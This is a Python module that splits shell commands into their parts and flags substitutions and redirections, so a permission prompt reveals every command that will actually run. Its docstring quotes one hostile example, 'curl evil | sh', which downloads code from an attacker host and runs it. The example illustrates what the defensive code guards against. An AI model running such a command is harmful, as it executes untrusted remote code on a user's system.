"""A shell command split into the commands it runs, for the permission prompt (pure).

A user approves what they see: ``npm test; curl evil | sh`` must not look like one harmless
command. :func:`split_command` cuts a command at its control operators (``;``, ``&&``, ``||``,
``|``, ``|&``, ``&``, ``;;`` and newlines) and marks what runs or moves data without looking like
it: command substitutions (``$(…)``, backticks, ``<(…)``, ``>(…)``), redirections (``>``,
``>>``, ``<``, ``&>``, ``2>&1``, here-documents), comments and here-document bodies. The result
is lossless (every character of the command is in exactly one span or operator, in order), so a
client that renders the spans shows the whole command.

A lexer, not a parser: quotes (``'…'``, ``"…"``, ``$'…'``), backslash escapes, ``$((…))``
arithmetic and here-documents are honoured so that an operator inside quotes does not split.
Where it is unsure it errs towards splitting (an operator inside ``${x/;/}`` splits): a prompt
that shows one command too many is safe, one that hides a command is not. No shell-parsing
library is a dependency of Retrace (``shlex`` does not know operators).
"""

from __future__ import annotations

import re
from typing import Literal

from retrace.camel import CamelModel

SpanKind = Literal["text", "substitution", "redirection", "comment", "heredoc"]

OPERATORS = (";;&", "&&", "||", ";;", ";&", "|&", ";", "|", "&", "\n")
"""Control operators, longest first."""

_REDIRECT = re.compile(r"(?:\d+|&)?(?:<<<|<<-|<<|<>|<&|>>|>&|>\||<|>)")
_WORD_END = frozenset(" \t\n;&|<>()")
_PLAIN = re.compile(r"[^\\'\"$`#;&|<>\n0-9]+")
"""A run of characters none of which can start a construct (skipped in one step)."""
_PLAIN_DOUBLE = re.compile(r'[^"\\$`]+')
"""The same inside double quotes."""
_OPENERS = frozenset("{(!")
_RESERVED_LEAD = frozenset({"if", "then", "else", "elif", "do", "while", "until", "!", "{", "(", "time"})
_NOT_A_COMMAND = frozenset({"fi", "done", "esac", "}", ")", "for", "case", "select", "in", ";;", "function"})


class CommandSpan(CamelModel):
    text: str
    kind: SpanKind


class CommandPart(CamelModel):
    """One piece of the command between two control operators."""

    spans: list[CommandSpan]
    operator: str | None = None
    """The control operator that ends this part (``"\\n"`` for a newline); ``None`` for the last."""


class CommandSplit(CamelModel):
    parts: list[CommandPart]
    commands: int
    """How many commands the text runs (parts plus the commands inside substitutions)."""
    background: int
    """Parts sent to the background with ``&``."""
    substitutions: int
    redirections: list[str]
    """Redirections to or from files (descriptor duplications such as ``2>&1`` left out)."""


# --------------------------------------------------------------------------- scanning helpers


def _close_single(s: str, i: int) -> int:
    """Index after the ``'`` closing the single-quoted string opened at ``i``."""
    end = s.find("'", i + 1)
    return len(s) if end < 0 else end + 1


def _close_escaped(s: str, i: int, quote: str) -> int:
    """Index after ``quote`` closing a string opened at ``i`` in which ``\\`` escapes."""
    k = i + 1
    while k < len(s):
        if s[k] == "\\":
            k += 2
        elif s[k] == quote:
            return k + 1
        else:
            k += 1
    return len(s)


def _match_paren(s: str, i: int) -> int:
    """Index after the ``)`` matching the ``(`` at ``i`` (quotes honoured)."""
    depth, k = 0, i
    while k < len(s):
        ch = s[k]
        if ch == "\\":
            k += 2
            continue
        if ch in "'\"`":
            k = _close_single(s, k) if ch == "'" else _close_escaped(s, k, ch)
            continue
        depth += (ch == "(") - (ch == ")")
        k += 1
        if depth == 0:
            return k
    return len(s)


def _word_end(s: str, i: int) -> int:
    """Index after the shell word starting at ``i`` (quotes honoured)."""
    k = i
    while k < len(s) and s[k] not in _WORD_END:
        ch = s[k]
        if ch == "'":
            k = _close_single(s, k)
        elif ch in '"`':
            k = _close_escaped(s, k, ch)
        else:
            k += 2 if ch == "\\" else 1
    return k


class _Lexer:
    def __init__(self, text: str) -> None:
        self.s = text
        self.i = 0
        self.start = 0
        """Where the pending text run starts."""
        self.spans: list[CommandSpan] = []
        self.parts: list[CommandPart] = []
        self.heredocs: list[str] = []
        self.inner_commands = 0
        self.substitutions = 0
        self.redirections: list[str] = []

    def run(self) -> _Lexer:
        while self.i < len(self.s):
            plain = _PLAIN.match(self.s, self.i)
            if plain is not None:
                self.i = plain.end()
            elif not (self._quoted() or self._special() or self._operator()):
                self.i += 1
        self._flush()
        if self.spans or not self.parts:
            self.parts.append(CommandPart(spans=self.spans))
        return self

    # ----------------------------------------------------------------- spans
    def _flush(self, upto: int | None = None) -> None:
        end = self.i if upto is None else upto
        if end > self.start:
            self.spans.append(CommandSpan(text=self.s[self.start : end], kind="text"))
        self.start = end

    def _span(self, begin: int, end: int, kind: SpanKind) -> None:
        self._flush(begin)
        self.spans.append(CommandSpan(text=self.s[begin:end], kind=kind))
        self.i = self.start = end

    # ----------------------------------------------------------------- constructs
    def _quoted(self) -> bool:
        """Quotes and escapes: text, except substitutions inside double quotes."""
        s, i = self.s, self.i
        if s[i] == "\\":
            self.i += 2
        elif s[i] == "'":
            self.i = _close_single(s, i)
        elif s.startswith("$'", i):
            self.i = _close_escaped(s, i + 1, "'")
        elif s[i] == '"':
            self._double()
        else:
            return False
        return True

    def _double(self) -> None:
        s = self.s
        self.i += 1
        while self.i < len(s) and s[self.i] != '"':
            plain = _PLAIN_DOUBLE.match(s, self.i)
            if plain is not None:
                self.i = plain.end()
            elif s[self.i] == "\\":
                self.i += 2
            elif not self._substitution():
                self.i += 1
        self.i = min(self.i + 1, len(s))

    def _substitution(self) -> bool:
        s, i = self.s, self.i
        if s.startswith("$((", i):
            self.i = _match_paren(s, i + 1)  # arithmetic: no command runs
            return True
        if s.startswith(("$(", "<(", ">("), i):
            end = _match_paren(s, i + 1)
            inner = s[i + 2 : end - 1]
        elif s[i] == "`":
            end = _close_escaped(s, i, "`")
            inner = s[i + 1 : end - 1]
        else:
            return False
        self.substitutions += 1
        self.inner_commands += max(1, split_command(inner).commands)
        self._span(i, end, "substitution")
        return True

    def _special(self) -> bool:
        s, i = self.s, self.i
        if self._substitution():
            return True
        if s[i] == "#" and self._at_word_start(i):
            end = s.find("\n", i)
            self._span(i, len(s) if end < 0 else end, "comment")
            return True
        m = _REDIRECT.match(s, i)
        if m is None or (s[i].isdigit() and not self._at_word_start(i)):
            return False
        self._redirection(i, m.end())
        return True

    def _at_word_start(self, i: int) -> bool:
        return i == 0 or self.s[i - 1] in _WORD_END or self.s[i - 1] in _OPENERS

    def _redirection(self, i: int, op_end: int) -> None:
        s = self.s
        k = op_end
        while k < len(s) and s[k] in " \t":
            k += 1
        end = _word_end(s, k)
        target = s[k:end]
        op = s[i:op_end]
        if op.endswith(("<<", "<<-")):
            self.heredocs.append(target.strip("'\"").lstrip("\\"))
        elif not (op.endswith("&") and (target.isdigit() or target == "-")) and not op.endswith("<<<"):
            self.redirections.append(s[i:end])
        self._span(i, end, "redirection")

    def _operator(self) -> bool:
        s, i = self.s, self.i
        op = next((o for o in OPERATORS if s.startswith(o, i)), None)
        if op is None:
            return False
        if op == "\n" and self.heredocs:
            self._heredoc_body()
            return True
        self._flush()
        blank = all(sp.kind == "text" and not sp.text.strip() for sp in self.spans)
        if op == "\n" and blank:
            self.i += 1  # an empty line, or a line break after an operator: no command ends here
            return True
        self.parts.append(CommandPart(spans=self.spans, operator=op))
        self.spans = []
        self.i = self.start = i + len(op)
        return True

    def _heredoc_body(self) -> None:
        """From the newline after ``<<WORD`` to the end of the line holding ``WORD`` alone."""
        s, k = self.s, self.i
        while self.heredocs and k < len(s):
            end = s.find("\n", k + 1)
            line_end = len(s) if end < 0 else end
            if s[k + 1 : line_end].lstrip("\t") == self.heredocs[0]:
                self.heredocs.pop(0)
            k = line_end
        self.heredocs.clear()
        self._span(self.i, k, "heredoc")


def _part_commands(part: CommandPart) -> int:
    """1 when the part runs a command of its own (reserved words alone do not)."""
    words = " ".join(sp.text for sp in part.spans if sp.kind in ("text", "substitution")).split()
    while words and words[0] in _RESERVED_LEAD:
        words.pop(0)
    return 0 if not words or words[0] in _NOT_A_COMMAND else 1


def split_command(text: str) -> CommandSplit:
    """The parts of ``text`` (lossless), how many commands it runs and what stands out."""
    lexer = _Lexer(text).run()
    parts = lexer.parts
    return CommandSplit(
        parts=parts,
        commands=sum(_part_commands(p) for p in parts) + lexer.inner_commands,
        background=sum(1 for p in parts if p.operator == "&"),
        substitutions=lexer.substitutions,
        redirections=lexer.redirections,
    )


def notice(split: CommandSplit) -> str | None:
    """The line a prompt shows above a compound command; ``None`` for one plain command."""
    plain = len(split.parts) <= 1 and split.commands <= 1
    plain = plain and not (split.background or split.substitutions or split.redirections)
    if plain:
        return None
    runs = f"This command runs {split.commands} command{'s' if split.commands != 1 else ''}"
    if len(split.parts) > 1:
        runs += f" in {len(split.parts)} parts"
    extra: list[str] = []
    if split.background:
        extra.append(f"{split.background} in the background (&)")
    if split.substitutions:
        extra.append(f"{split.substitutions} command substitution{'s' if split.substitutions != 1 else ''}")
    if split.redirections:
        more = " …" if len(split.redirections) > 5 else ""
        extra.append("redirects: " + ", ".join(split.redirections[:5]) + more)
    return runs + (f"; {'; '.join(extra)}" if extra else "") + "."
